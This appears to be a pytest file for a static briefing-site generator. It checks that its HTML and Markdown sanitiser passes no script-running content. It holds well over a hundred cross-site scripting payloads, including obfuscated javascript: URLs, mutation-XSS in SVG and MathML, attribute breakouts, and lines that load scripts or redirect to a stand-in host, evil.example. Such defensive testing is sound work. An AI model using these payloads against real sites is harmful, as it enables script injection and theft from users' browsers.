"""Texts that would run a program in a reader's browser, by families; none comes through the sanitiser.

A browser's parser (html5lib) reads what comes out. The policy of the page and the faults, which stop such texts a second
and a third time, are left out of account here.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import product
from typing import Any

import html5lib
import nh3
import pytest

from briefing_site.engine.engine import Engine
from briefing_site.engine.site import Site as Seen
from briefing_site.model.briefing import Briefing, LooseText
from briefing_site.parse.briefing import parse_briefing
from briefing_site.parse.markdown.engine import MarkdownEngine
from tests.sites import CARD, Site, briefing, files

RUN = "alert(1)"
_XHTML = "{http://www.w3.org/1999/xhtml}"
_SCHEMES = ("http:", "https:", "mailto:", "tel:")
_ADDRESSES = ("href", "src", "cite", "srcset", "action", "data", "poster", "background")
_FORBIDDEN = frozenset(
    ["script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input", "button", "textarea", "select", "option", "meta", "link", "base", "svg", "math", "template", "noscript", "noembed", "noframes", "xmp", "plaintext", "portal", "audio", "video", "source", "track", "dialog", "marquee", "title", "isindex"]
)  # fmt: skip

_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "ONMOUSEOVER",
    "onfocus",
    "ontoggle",
    "onbegin",
    "onanimationstart",
    "onpointerenter",
)
_URLS = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"  javascript:{RUN}", f"java\tscript:{RUN}", f"java\nscript:{RUN}", f"\x01javascript:{RUN}",
    f"&#106;avascript:{RUN}", f"&#x6A;avascript:{RUN}", f"&#0000106avascript:{RUN}", f"javascript&colon;{RUN}", f"java&Tab;script:{RUN}",
    f"java&NewLine;script:{RUN}", f"vbscript:{RUN}", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD4=",
    f"livescript:{RUN}", f"mocha:{RUN}", f"jar:javascript:{RUN}", f"feed:javascript:{RUN}", f"blob:{RUN}", f"filesystem:{RUN}", f"javascript\u200b:{RUN}",
)  # fmt: skip
FAMILIES: dict[str, tuple[str, ...]] = {
    "tags": (
        f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", "<script src=//evil.example/x.js></script>", f"<script\x0c>{RUN}</script>", f"<scr<script>ipt>{RUN}</script>",
        f"<script/x>{RUN}</script>", f"<<script>{RUN}//<</script>", f"<script>{RUN}", "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>", "<applet code=x></applet>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<link rel=stylesheet href=//evil.example/x.css>", "<form action=//evil.example><input name=a><button>b</button></form>", "<isindex action=javascript:alert(1)>", "<marquee onstart=alert(1)>a</marquee>",
        "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)></audio>", "<dialog open onclose=alert(1)>a</dialog>", "<portal src=//evil.example></portal>", "<frameset onload=alert(1)></frameset>",
    ),
    "events": tuple(f"<{tag} {event}={RUN} src=x href=x tabindex=0>a</{tag}>" for tag, event in product(("img", "a", "details"), _EVENTS)),
    "addresses in HTML": tuple(f'<a href="{url}">a</a>' for url in _URLS),
    "addresses in Markdown": tuple(f"[a](<{url}>)" for url in _URLS if "\n" not in url),
    "pictures in Markdown": tuple(f"![a](<{url}>)" for url in _URLS[:8] if "\n" not in url),
    "definitions in Markdown": (f"[a]\n\n[a]: javascript:{RUN}", f'[a]: <javascript:{RUN}> "t"\n\n[a][]', f"<javascript:{RUN}>", f"<vbscript:{RUN}>"),
    "lists of attributes": (
        f'word{{: onclick="{RUN}" }}', f'# Title {{: onmouseover="{RUN}" }}', f'[a](b){{: href="javascript:{RUN}" }}', f'![a](b.png){{: onerror="{RUN}" }}', '*a*{: style="background:url(javascript:alert(1))" }',
        f'*a*{{ onfocus="{RUN}" tabindex="0" }}',
    ),
    "out of an attribute": (
        f'![a" onerror="{RUN}](b.png)', f'[a](b "t\\" onclick=\\"{RUN}")', f"[a](b 't\" onclick=\"{RUN}')", f'![a](b.png "c\\"><img src=x onerror={RUN}>")', f'<a title="&quot; onclick={RUN} x=&quot;">a</a>',
        f"<img alt='`' src=x alt=`` onerror={RUN}>", f'<a title="><img src=x onerror={RUN}>">a</a>', f"<img title=\"--><script>{RUN}</script>\" src=x>",
    ),
    "other namespaces": (
        f"<svg><script>{RUN}</script></svg>", f"<svg onload={RUN}>", f"<svg><animate onbegin={RUN} attributeName=x>", f"<svg><a xlink:href=javascript:{RUN}><text>a</text></a></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        f"<math><mi xlink:href=javascript:{RUN}>a</mi></math>", f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">", f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>", f"<svg><foreignObject><iframe onload={RUN}></iframe></foreignObject></svg>", f"<svg><use href=\"data:image/svg+xml,<svg onload={RUN}>\"/></svg>",
    ),
    "text that becomes markup": (
        f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>", f"<textarea><img src=x onerror={RUN}></textarea>", f"<title><img src=x onerror={RUN}></title>", f"<xmp><img src=x onerror={RUN}></xmp>",
        f"<style><img src=x onerror={RUN}></style>", f"<noembed><img src=x onerror={RUN}></noembed>", f"<template><script>{RUN}</script></template>", f"<plaintext><script>{RUN}</script>", f"<!--><img src=x onerror={RUN}>-->",
        f"<!-- --!><img src=x onerror={RUN}> -->", f"<![CDATA[><script>{RUN}</script>]]>", f"<?xml ?><script>{RUN}</script>", f"<!DOCTYPE a [<!ENTITY x '<script>{RUN}</script>'>]>&x;", f"</p><script>{RUN}</script>", f"</div></main></body><script>{RUN}</script>",
        f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script>{RUN}&#60;/script>", f"\\<script>{RUN}</script>",
    ),
    "styles": ("<p style='background:url(javascript:alert(1))'>a</p>", "<div style='width:expression(alert(1))'>a</div>", "<style>@import '//evil.example/x.css'</style>", "<p style='position:fixed;inset:0'>a</p>"),
    "inside other markup": (
        f"| a |\n| --- |\n| <img src=x onerror={RUN}> |", f"- <script>{RUN}</script>", f"> <iframe src=javascript:{RUN}>", f"# <svg onload={RUN}>", f"a[^1]\n\n[^1]: <script>{RUN}</script>", f"Term\n: <img src=x onerror={RUN}>",
        f'!!! note "<img src=x onerror={RUN}>"\n    a', f"*[HB]: <img src=x onerror={RUN}>\" onclick=\"{RUN}\n\nThe HB.", f"`<script>{RUN}</script>`", f"```\n</code></pre><script>{RUN}</script>\n```", f"``` \"><script>{RUN}</script>\na\n```",
        f"[[<img src=x onerror={RUN}>]]", f"[[a|<img src=x onerror={RUN}>]]", f"[@<script>{RUN}</script>]", f"[<img src=x onerror={RUN}> @rain#hours]", f"[@rain#hours, <svg onload={RUN}>]",
    ),
}  # fmt: skip
PAYLOADS = {f"{name} {number}": text for name, of in FAMILIES.items() for number, text in enumerate(of)}


def dangers(html: str, *, page: bool = False) -> Iterator[str]:
    """What a browser would make of some HTML that could run, load or cover something."""
    tree: Any = html5lib.parse(html) if page else html5lib.parseFragment(html)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.removeprefix(_XHTML)
        if not page and (tag in _FORBIDDEN or tag.startswith("{")):
            yield f"<{tag}>"
        for name, value in element.attrib.items():
            if name.lower().startswith("on") or name in ("style", "srcdoc", "formaction", "ping"):
                yield f"{tag} {name}={value}"
            plain = re.sub("[\0-\x20]", "", value).lower()
            if (
                name in _ADDRESSES
                and re.match(r"[a-z][\w+.-]*:", plain)
                and not plain.startswith(_SCHEMES)
                and not (page and plain.startswith("data:image/"))
            ):
                yield f"{tag} {name}={value}"  # fmt: skip


def test_there_are_many_payloads() -> None:
    assert len(PAYLOADS) >= 140


@pytest.mark.parametrize("text", PAYLOADS.values(), ids=PAYLOADS)
def test_nothing_that_runs_comes_through(text: str) -> None:
    data = files(briefing(text))["briefings/water/lead.md"].encode()
    value, _ = parse_briefing("briefings/water/lead.md", data, MarkdownEngine())
    if value is None:
        return  # nothing of it is published
    assert isinstance(value, Briefing | LooseText)
    for body in value.bodies:
        assert list(dangers("".join(body.pieces))) == []


def test_the_search_for_dangers_finds_them() -> None:
    assert len([text for text in FAMILIES["tags"] + FAMILIES["events"] if list(dangers(text))]) > 45
    assert list(dangers('<a href=" java&#10;script:alert(1)">a</a>'))


FIELDS = [f'"><script>{RUN}</script>', f"'><img src=x onerror={RUN}>", f"</title><script>{RUN}</script>", f"<svg onload={RUN}>", "{{ 7 * 7 }}{% raw %}", "]]></script><!--"]  # fmt: skip


@pytest.mark.parametrize("payload", FIELDS)
def test_no_field_of_front_matter_becomes_markup(small: Site, payload: str) -> None:
    quoted = "'" + payload.replace("'", "''") + "'"
    small.lead(
        f"Rain fell [@rain#hours, {payload}].\n\n![{payload}](a.gif)",
        f"authors: [{quoted}]\ntopics: [ai]\npeople: [{quoted}]\ncorrections:\n  - {{date: 2026-01-08, text: {quoted}}}",
        title=quoted,
        summary=quoted,
    )
    small.put("briefings/water/a.gif", b"GIF89a")
    for name in ("publisher", "title"):
        small.put(CARD, re.sub(rf"^{name}: .*$", lambda _, n=name: f"{n}: {quoted}", small.read(CARD), flags=re.MULTILINE))  # type: ignore[misc]  # fmt: skip
    small.edit("config.yaml", "title: Harbour Notes", f"title: {quoted}")
    small.edit("config.yaml", "{name: Water}", f"{{name: {quoted}}}")
    site = Engine(small.options()).look()
    assert isinstance(site, Seen)
    for address in site.pages:
        html = site.render_shown(address).html
        assert html
        assert list(dangers(html, page=True)) == []
        scripts = re.findall(r"<script\b([^>]*)>(.*?)</script>", html, re.DOTALL)
        assert not [text for kind, text in scripts if RUN in text and "json" not in kind]
        assert f"<script>{RUN}" not in html


# --- what the rewrites after cleaning rely on ------------------------------------------------------


@pytest.mark.parametrize("sign", ["<", "&lt;", "&#60;", "&#x3c;", "&LT"])
def test_the_sanitiser_escapes_what_opens_a_tag_in_an_attribute(sign: str) -> None:
    """Tables are wrapped, and cells get their classes, by looking for tags in cleaned HTML."""
    raw = f'<p title="{sign}table>{sign}/table>{sign}td align=&quot;left&quot;>">a</p>'
    cleaned = nh3.clean(raw, tags={"p"}, attributes={"p": {"title"}})
    assert cleaned.count("<") == 2
    html, _ = MarkdownEngine().clean(raw)
    assert "table-wrap" not in html
    assert 'class="align-' not in html
    assert html.count("<") == 2


def test_text_opens_no_tag_either() -> None:
    html, _ = MarkdownEngine().clean("<p>&lt;table&gt; &lt;td align=&quot;left&quot;&gt; &lt;/table&gt;</p>")
    assert html.count("<") == 2
